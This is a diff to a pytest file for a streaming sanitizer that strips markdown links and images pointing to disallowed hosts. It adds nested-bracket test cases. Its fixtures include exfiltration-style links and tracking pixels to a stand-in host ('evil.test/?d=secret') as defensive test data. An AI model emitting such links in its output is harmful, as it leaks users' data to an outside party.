@@ -17,6 +17,8 @@ PIECES = [
     "  indented line\n",
     "See [the memo](https://example.com/memo) here. ",
     "Bad [link](https://evil.test/?d=secret) there. ",
+    "Nested [a [b] c](https://evil.test/?d=secret) words. ",
+    "![alt [x] y](https://evil.test/p.png?d=secret) ",
     "![pixel](https://evil.test/p.png?d=x)",
     "![ok](https://example.com/i.png) ",
     "A [multi\nline](https://evil.test/x) link. ",
@@ -83,6 +85,18 @@ def test_an_echoed_data_delimiter_never_shows_and_never_diverges(size):
     released += sanitizer.flush()
     assert not sanitizer.diverged and "<" not in released
     assert released.strip() == sanitizer.finish() == "The sea is calm."
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 5, 8])
+def test_a_link_with_brackets_in_its_words_never_shows_its_target(size):
+    """Brackets nest in a link's words; the target of such a link to another host is held back until it is complete
+    and then dropped, in every chunking, without a divergence."""
+    text = "See [a [b] c](https://evil.test/?d=secret) and ![x [y] z](https://evil.test/p.png?d=secret) now.\n"
+    sanitizer = StreamSanitizer(HOSTS)
+    deltas = [sanitizer.feed(text[i : i + size]) for i in range(0, len(text), size)]
+    released = "".join(deltas) + sanitizer.flush()
+    assert not sanitizer.diverged and "evil" not in released and "secret" not in released
+    assert released.strip() == sanitizer.finish() == "See [a [b] c] and ![x [y] z] now."
 
 
 def test_settling_makes_long_answers_linear():
